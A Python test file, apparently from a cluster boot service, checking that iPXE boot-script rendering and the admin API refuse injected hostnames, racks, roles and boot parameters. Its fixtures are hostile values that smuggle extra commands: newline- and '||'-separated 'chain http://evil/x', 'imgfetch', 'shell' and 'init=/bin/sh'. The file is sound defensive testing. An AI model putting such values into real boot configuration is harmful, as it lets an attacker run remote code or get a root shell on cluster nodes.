"""Finding 4: values substituted into a node's iPXE script must not add lines or commands.

`{{hostname}}` (meta-data local-hostname), `{{subRole}}`, `{{rack}}` ... and the
stored kernel, initrd and cmdline end up in an iPXE script, one command per
line, where iPXE splits tokens on whitespace and `||`, `&&`, `;` and `#...`
end a command.  The admin API refuses such values (422 naming the field,
nothing changed); the renderer refuses them too, compiled and twin, for rows
that reach the database some other way (plain SQL, an older version).
"""

import re

import pytest

from hotpath import _dispatch, _dispatch_py, _render, _render_py
from hotpath.answers import AnswerBuilder
from hotpath.index import Index
from tests.helpers.api import NODE, create, problem_of
from tests.helpers.polling import wait_until
from tests.helpers.seed import add_node, add_params, add_payload

RENDERERS = pytest.mark.parametrize("module", [_render, _render_py], ids=["compiled", "twin"])
BASE = "http://boot:27778"
MAC = "aa:bb:cc:dd:ee:ff"
OUR_COMMANDS = {"kernel", "initrd", "boot", "sleep", "chain", "echo", "goto"}

HOSTILE_VALUES = [
    "h1\nimgfetch http://evil/x\n",
    "h1\rshell",
    "h1\x0bshell",
    "h1 || chain http://evil/x",
    "h1 ; shell",
    "h1 && shell",
    "h1 #",
    "h1 init=/bin/sh",  # not an iPXE command, but a kernel argument of its own
    "${password}",
    "h1\u2028shell",
    "h1\x85shell",
    "h1\tshell",
]


def ipxe_commands(script: str) -> list[list[str]]:
    """The commands iPXE would run from `script`, split the way iPXE splits them."""
    commands = []
    for line in re.split(r"[\n\r]", script):
        tokens = re.split(r"[ \t\n\v\f\r]+", line.strip(" \t\n\v\f\r"))
        if not tokens or tokens == [""] or tokens[0].startswith(":") or line.startswith("#!ipxe"):
            continue
        command: list[str] = []
        for token in tokens:
            if token.startswith("#"):
                break
            if token in ("||", "&&", ";"):
                commands.append(command)
                command = []
            else:
                command.append(token)
        commands.append(command)
    return [c for c in commands if c]


def assert_only_our_commands(body: bytes, base: str = BASE) -> str:
    script = body.decode()
    for command in ipxe_commands(script):
        assert command[0] in OUR_COMMANDS, (command, script)
        if command[0] == "chain":
            assert command[1].startswith(base + "/boot/v1/bootscript?"), script
        if command[0] == "goto":
            assert command[1:] == ["retry"], script
    assert "evil" not in script and "/bin/sh" not in script and "${password}" not in script, script
    return script


def assert_refused(body: bytes, reason: str, base: str = BASE) -> None:
    """The node gets the wait-and-retry script: no kernel, a reason without the bad value."""
    script = assert_only_our_commands(body, base)
    names = [c[0] for c in ipxe_commands(script)]
    assert names == ["echo", "sleep", "chain"], script
    assert reason in script.splitlines()[1], script


def values(**changes) -> tuple:
    base = {"id": "node-17", "nid": "17", "role": "Compute", "subRole": "", "hostname": "node-17",
            "arch": "x86_64", "type": "Node", "rack": "R1", "unit": "3", "slot": "0", "group": "", "groups": ""}
    base.update(changes)
    return tuple(base[name] for name in _render.VARIABLE_NAMES)


def render(module, kernel="http://images/vmlinuz", initrd="http://images/initrd", cmdline="console=ttyS0",
           node_values=None, retry=0) -> bytes:
    return module.render_bootscript(kernel, initrd, cmdline, node_values or values(), "node-17", MAC,
                                    "mac=" + MAC, BASE, retry, 2.0, 60.0)


# -- the renderer, compiled and twin ---------------------------------------


@RENDERERS
@pytest.mark.parametrize("value", HOSTILE_VALUES)
@pytest.mark.parametrize(("variable", "template"), [
    ("hostname", {"cmdline": "console=ttyS0 hostname={{hostname}}"}),
    ("subRole", {"cmdline": "role={{role}} {{ subRole }} quiet"}),
    ("rack", {"kernel": "http://images/{{rack}}/vmlinuz"}),
    ("rack", {"initrd": "http://images/{{rack}}/initrd"}),
])
def test_hostile_node_variable_is_refused(module, value, variable, template):
    body = render_with(module, template, values(**{variable: value}))
    assert_refused(body, "{{" + variable + "}}")


def render_with(module, template: dict, node_values: tuple, retry: int = 0) -> bytes:
    return render(module, node_values=node_values, retry=retry, **template)


@RENDERERS
@pytest.mark.parametrize(("field", "stored"), [
    ("cmdline", "quiet\nshell"),
    ("cmdline", "quiet\r\nimgfetch http://evil/x"),
    ("cmdline", "quiet ; shell"),
    ("cmdline", "quiet || chain http://evil/x"),
    ("cmdline", "quiet && shell"),
    ("cmdline", "quiet #comment"),
    ("cmdline", "quiet\u2028shell"),
    ("kernel", "http://k/vmlinuz ; shell"),
    ("kernel", "http://k/vmlinuz\nshell"),
    ("kernel", "http://k/vmlinuz\tinit=/bin/sh"),
    ("initrd", "http://i/initrd || shell"),
    ("initrd", "http://i/initrd\nchain http://evil/x"),
])
def test_hostile_stored_boot_parameters_are_refused(module, field, stored):
    body = render(module, **{field: stored})
    assert_refused(body, field)


@RENDERERS
def test_refusal_keeps_asking_with_backoff(module):
    body = render_with(module, {"cmdline": "h={{hostname}}"}, values(hostname="a b"), retry=3)
    lines = body.decode().splitlines()
    assert lines[2] == "sleep 16" and lines[3] == f"chain {BASE}/boot/v1/bootscript?mac={MAC}&retry=4"


@RENDERERS
@pytest.mark.parametrize("value", ["c007", "c007.cluster.example", "x1000c0s1b0n0", "UAN_2", "a:b/c@d+e=f,g%h~i-j"])
def test_safe_values_still_render(module, value):
    body = render_with(module, {"cmdline": "h={{hostname}} r={{rack}}"}, values(hostname=value, rack=value))
    script = assert_only_our_commands(body)
    assert f"h={value} r={value} " in script and script.splitlines()[1].startswith("kernel ")


@pytest.mark.parametrize("value", HOSTILE_VALUES)
def test_compiled_and_twin_refuse_alike(value):
    for template in ({"cmdline": "x={{hostname}}"}, {"cmdline": value}, {"kernel": value}):
        node_values = values(hostname=value)
        assert render_with(_render, template, node_values) == render_with(_render_py, template, node_values)


# -- through the answers and the dispatcher ----------------------------------

NODE_ROW = {"id": "node-1", "type": "Node", "role": "Compute", "sub_role": "", "nid": 1, "arch": "x86_64",
            "enabled": True, "rack": "R1", "unit": 3, "slot": 0, "sub_slot": 0, "groups": [],
            "macs": [MAC], "ip_addrs": [[{"ipAddress": "10.1.0.1"}]], "cloud_init_token": "0123456789abcdef0123456789abcdef"}
PARAMS = [{"mac": None, "component_id": None, "group_name": None, "role": None, "kernel": "http://k/{{rack}}",
           "initrd": "", "cmdline": "hostname={{hostname}} role={{subRole}}"}]


@pytest.mark.parametrize("module", [_dispatch, _dispatch_py], ids=["compiled", "twin"])
@pytest.mark.parametrize(("row", "meta", "variable"), [
    ({}, {"local-hostname": "h1\nimgfetch http://evil/x\n"}, "hostname"),
    ({"sub_role": "x\nshell"}, {}, "subRole"),
    ({"rack": "R1 || chain http://evil/x"}, {}, "rack"),
])
@pytest.mark.parametrize("boot_url", [None, BASE])
def test_stored_rows_cannot_add_commands(module, row, meta, variable, boot_url):
    payloads = [{"component_id": None, "group_name": None, "role": None, "user_data": None, "meta_data": meta,
                 "vendor_data": None}]
    index = Index.from_answers(AnswerBuilder(boot_url, 2.0, 60.0).batch()([{**NODE_ROW, **row}], PARAMS, payloads))
    dispatcher = module.Dispatcher(index, boot_url, BASE, 2.0, 60.0, 10)
    for query in ("mac=" + MAC, "mac=" + MAC + "&retry=2", "name=node-1", "nid=1"):
        status, _, body, *_ = dispatcher.dispatch("/boot/v1/bootscript", query, "boot:27778")
        assert status == 200
        assert_refused(body, "{{" + variable + "}}")


# -- the real server, rows written with plain SQL ----------------------------


async def test_boot_path_refuses_hostile_rows(conn, boot_server):
    await add_node(conn, "node-1", ["52:54:00:00:00:01"], nid=1)
    await add_node(conn, "node-2", ["52:54:00:00:00:02"], nid=2)
    await conn.execute("UPDATE smd.components SET sub_role = 'x' || chr(10) || 'shell' WHERE id = 'node-2'")
    await add_params(conn, "site", kernel="http://images/vmlinuz", cmdline="hostname={{hostname}} sub={{subRole}}")
    await add_payload(conn, "n1", component_id="node-1",
                      meta_data={"local-hostname": "h1\nimgfetch http://evil/x\nchain http://evil/y"})
    server = boot_server()
    base = server.url
    for mac, variable in (("52:54:00:00:00:01", "hostname"), ("52:54:00:00:00:02", "subRole")):
        status, _, body = server.get(f"/boot/v1/bootscript?mac={mac}")
        assert status == 200
        assert_refused(body, "{{" + variable + "}}", base)
    # Fixed data reaches the node through the change feed, as any edit does.
    await conn.execute("UPDATE smd.components SET sub_role = 'UAN' WHERE id = 'node-2'")
    wait_until(lambda: b"sub=UAN " in server.get("/boot/v1/bootscript?mac=52:54:00:00:00:02")[2])


# -- the admin API: refused at write time, nothing changed ---------------------


def field_of(response) -> str:
    body = problem_of(response, 422)
    return body["errors"][0]["field"]


@pytest.mark.parametrize(("spec", "field"), [
    ({"subRole": "x\nshell"}, "$.spec.subRole"),
    ({"subRole": "a b"}, "$.spec.subRole"),
    ({"subRole": "||"}, "$.spec.subRole"),
    ({"location": {"rack": "R1\nimgfetch http://evil/x"}}, "$.spec.location.rack"),
    ({"location": {"rack": "R1 ; shell"}}, "$.spec.location.rack"),
    ({"location": {"rack": "${password}"}}, "$.spec.location.rack"),
])
async def test_component_values_are_checked(api, spec, field):
    await create(api, "/hsm/v2/State/Components", NODE)
    before = (await api.get("/hsm/v2/State/Components/node-1")).json()
    response = await api.patch("/hsm/v2/State/Components/node-1", json={"spec": spec},
                               headers={"Content-Type": "application/merge-patch+json"})
    assert field_of(response) == field
    assert (await api.get("/hsm/v2/State/Components/node-1")).json() == before
    body = {"metadata": {"id": "node-2"}, "spec": {**NODE["spec"], "nid": 2, **spec}}
    if "location" in spec:
        body["spec"]["location"] = {**NODE["spec"]["location"], **spec["location"]}
    assert field_of(await api.post("/hsm/v2/State/Components", json=body)) == field
    assert (await api.get("/hsm/v2/State/Components/node-2")).status_code == 404


@pytest.mark.parametrize("hostname", ["h1\nimgfetch http://evil/x\n", "h1 init=/bin/sh", "h1;shell", 7, ["a", "b"]])
async def test_meta_data_local_hostname_is_checked(api, hostname):
    await create(api, "/hsm/v2/State/Components", NODE)
    response = await api.post("/cloud-init/payloads", json={"spec": {"componentId": "node-1",
                                                                      "metaData": {"local-hostname": hostname}}})
    assert field_of(response) == "$.spec.metaData.local-hostname"
    assert (await api.get("/cloud-init/payloads")).json()["metadata"]["total"] == 0
    good = await create(api, "/cloud-init/payloads", {"metadata": {"id": "ci-1"}, "spec": {
        "componentId": "node-1", "metaData": {"local-hostname": "c007.cluster.example"}}})
    response = await api.patch("/cloud-init/payloads/ci-1", json={"spec": {"metaData": {"local-hostname": hostname}}},
                               headers={"Content-Type": "application/merge-patch+json"})
    assert field_of(response) == "$.spec.metaData.local-hostname"
    assert (await api.get("/cloud-init/payloads/ci-1")).json()["spec"] == good["spec"]


@pytest.mark.parametrize(("spec", "field"), [
    ({"cmdline": "quiet\nshell"}, "$.spec.cmdline"),
    ({"cmdline": "quiet ; shell"}, "$.spec.cmdline"),
    ({"cmdline": "quiet || chain http://evil/x"}, "$.spec.cmdline"),
    ({"cmdline": "quiet && shell"}, "$.spec.cmdline"),
    ({"cmdline": "quiet #x"}, "$.spec.cmdline"),
    ({"cmdline": "quiet\u2028shell"}, "$.spec.cmdline"),
    ({"kernel": "http://k/vmlinuz\tshell"}, "$.spec.kernel"),
    ({"kernel": "http://k/vmlinuz\u00a0x"}, "$.spec.kernel"),
    ({"initrd": "http://i/initrd\nshell"}, "$.spec.initrd"),
    ({"initrd": "http://i/initrd || shell"}, "$.spec.initrd"),
])
async def test_boot_params_are_checked(api, spec, field):
    body = {"metadata": {"id": "bp-1"}, "spec": {"role": "Compute", "kernel": "http://k/vmlinuz", **spec}}
    assert field_of(await api.post("/boot/v1/bootparams", json=body)) == field
    assert (await api.get("/boot/v1/bootparams")).json()["metadata"]["total"] == 0
    good = await create(api, "/boot/v1/bootparams", {"metadata": {"id": "bp-1"},
                                                      "spec": {"role": "Compute", "kernel": "http://k/vmlinuz"}})
    response = await api.patch("/boot/v1/bootparams/bp-1", json={"spec": spec},
                               headers={"Content-Type": "application/merge-patch+json"})
    assert field_of(response) == field
    assert (await api.get("/boot/v1/bootparams/bp-1")).json()["spec"] == good["spec"]
